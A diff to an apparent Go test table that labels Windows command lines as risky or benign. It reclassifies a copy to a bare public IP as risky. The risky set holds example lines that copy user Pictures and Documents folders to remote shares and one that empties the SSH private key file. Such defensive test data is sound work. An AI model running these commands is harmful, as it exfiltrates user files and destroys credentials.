@@ -217,11 +217,13 @@ func init() {
 				cmdl(`xcopy /s /y "%USERPROFILE%\Pictures" \\files.example.net\in\`),
 				ps(`Copy-Item "$env:USERPROFILE\Documents" -Destination \\198.51.100.20\drop -Recurse`),
 				ps(`[IO.File]::WriteAllBytes("$HOME\.ssh\id_rsa", @())`),
+				// a machine known only by its public address
+				ps(`Copy-Item .\dist\* \\198.51.100.20\deploy\site -Recurse`),
 			},
 			benign: []winLine{
 				cmdl(`robocopy "%USERPROFILE%\Documents" \\nas01\backup\dev\Documents /MIR /L`),
 				cmdl(`robocopy "%USERPROFILE%\Documents" \\nas01\backup\dev\Documents /E`),
-				ps(`Copy-Item .\dist\* \\198.51.100.20\deploy\site -Recurse`),
+				ps(`Copy-Item .\dist\* \\web01.corp.local\deploy\site -Recurse`),
 				ps(`[IO.File]::WriteAllBytes("$PWD\out\blob.bin", $bytes)`),
 			},
 		},
